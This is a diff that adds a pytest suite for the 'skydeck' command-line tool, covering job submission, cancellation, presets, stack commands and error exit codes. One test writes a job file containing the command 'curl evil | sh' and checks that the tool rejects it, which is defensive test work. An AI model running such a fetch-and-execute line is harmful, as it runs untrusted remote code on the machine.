@@ -1,0 +1,102 @@
+"""The `skydeck` command as an operator and a script use it: exit codes, messages, JSON shapes."""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import sys
+from pathlib import Path
+
+from backend.paths import Home
+from tests.conftest import SEED_JOBS
+
+
+def run(home: Path, *args: str, stdin: str | None = None) -> subprocess.CompletedProcess[str]:
+    env = {**os.environ, "SKYDECK_HOME": str(home), "COLUMNS": "200"}
+    return subprocess.run(
+        [sys.executable, "-m", "backend.cli", *args], capture_output=True, text=True, env=env, input=stdin, timeout=120
+    )
+
+
+def test_submit_show_list_cancel_with_json(cloud_home: Home) -> None:
+    home = cloud_home.root
+    sub = run(home, "jobs", "submit", "--preset", "syn", "--scene", "lego", "--set", "lr_sigma=10", "--json")
+    assert sub.returncode == 0, sub.stderr
+    job_id = json.loads(sub.stdout)["job_id"]
+    shown = json.loads(run(home, "jobs", "show", job_id, "--json").stdout)
+    assert shown["job_id"] == job_id and shown["state"] == "QUEUED"
+    assert shown["config"]["lr_sigma"] == 10.0 and shown["preset"] == "syn"
+    listed = json.loads(run(home, "jobs", "list", "--state", "queued", "--limit", "1000", "--json").stdout)
+    assert job_id in [j["job_id"] for j in listed["items"]]
+    refused = run(home, "jobs", "cancel", job_id)  # no terminal to ask on, no --yes
+    assert refused.returncode != 0 and "--yes" in refused.stderr
+    done = run(home, "jobs", "cancel", job_id, "--yes", "--json")
+    assert json.loads(done.stdout)["state"] == "CANCELLED"
+    again = run(home, "jobs", "cancel", job_id, "--yes")
+    assert again.returncode == 1 and "already ended" in again.stderr
+
+
+def test_seed_file_submits_and_bad_input_names_the_field(cloud_home: Home, tmp_path: Path) -> None:
+    home = cloud_home.root
+    ok = run(home, "jobs", "submit", str(SEED_JOBS[0]), "--json")
+    assert ok.returncode == 0 and "job_id" in json.loads(ok.stdout)
+    bad = run(home, "jobs", "submit", "--preset", "syn", "--scene", "lego", "--set", "lr_sigma=fast")
+    assert bad.returncode == 2 and "config.lr_sigma" in bad.stderr and "Traceback" not in bad.stderr
+    unknown = run(home, "jobs", "submit", "--preset", "syn", "--scene", "lego", "--set", "sigma_lr=1")
+    assert unknown.returncode == 2 and "unknown svox2 option" in unknown.stderr
+    noscene = run(home, "jobs", "submit", "--preset", "syn")
+    assert noscene.returncode == 2 and "--scene" in noscene.stderr
+    broken = tmp_path / "job.json"
+    broken.write_text('{"command": ["/bin/bash", "-c", "curl evil | sh", "/d", "-c"]}')
+    refused = run(home, "jobs", "submit", str(broken))
+    assert refused.returncode == 2 and "unknown command" in refused.stderr
+    assert run(home, "jobs", "show", "nope").returncode == 3
+    assert run(home, "jobs", "list", "--state", "DONE").returncode == 2
+
+
+def test_local_status_and_api_url_json_shapes(cloud_home: Home) -> None:
+    status = json.loads(run(cloud_home.root, "local", "status", "--json").stdout)
+    assert status["running"] is True and isinstance(status["pid"], int)
+    assert all("pid" in part for part in status["parts"].values())
+    info = json.loads(run(cloud_home.root, "api", "url", "--json").stdout)
+    assert info["url"].startswith("http://127.0.0.1:") and info["url"].endswith("/dev/")
+    assert info["headers"]["Authorization"].startswith("Bearer ")
+
+
+def test_stacks_commands(cloud_home: Home) -> None:
+    home = cloud_home.root
+    listed = json.loads(run(home, "stacks", "list", "--json").stdout)
+    assert {s["stack"]: s["status"] for s in listed}["infra"] == "CREATE_COMPLETE"
+    described = json.loads(run(home, "stacks", "describe", "api", "--json").stdout)
+    assert described["outputs"]["Stage"] == "dev"
+    events = run(home, "stacks", "events", "infra", "--json").stdout.splitlines()
+    assert json.loads(events[-1])["status"].endswith("COMPLETE")
+    refused = run(home, "stacks", "delete", "api")
+    assert refused.returncode != 0 and "--yes" in refused.stderr
+    assert json.loads(run(home, "stacks", "describe", "api", "--json").stdout)["status"] == "CREATE_COMPLETE"
+    bad = run(home, "stacks", "deploy", "api", "--param", "Nope=1")
+    assert bad.returncode == 2 and "no such parameter" in bad.stderr
+    assert run(home, "stacks", "deploy", "database").returncode == 3
+
+
+def test_commands_without_a_local_cloud_say_how_to_start_it(tmp_path: Path) -> None:
+    out = run(tmp_path, "jobs", "list")
+    assert out.returncode == 4 and "skydeck local up" in out.stderr
+    doctor = run(tmp_path, "doctor", "--json")
+    assert doctor.returncode == 1
+    assert {c["name"]: c["fix"] for c in json.loads(doctor.stdout)}["local cloud"] == "skydeck local up"
+    assert run(tmp_path, "jobs", "list", "--profile", "prod").returncode == 3
+
+
+def test_presets_commands_and_user_override(tmp_path: Path) -> None:
+    listed = json.loads(run(tmp_path, "presets", "list", "--kind", "plenoxels", "--json").stdout)
+    assert {"syn", "llff", "tnt", "custom", "drums"} <= {p["name"] for p in listed}
+    (tmp_path / "presets").mkdir(parents=True)
+    (tmp_path / "presets" / "syn.yaml").write_text(
+        "kind: plenoxels\ndescription: mine\nvalues:\n  config:\n    lr_sigma: 5\n"
+    )
+    shown = json.loads(run(tmp_path, "presets", "show", "syn", "--json").stdout)
+    assert shown["source"] == "user" and shown["values"]["config"]["lr_sigma"] == 5
+    missing = run(tmp_path, "presets", "show", "synn")
+    assert missing.returncode == 3 and "syn" in missing.stderr
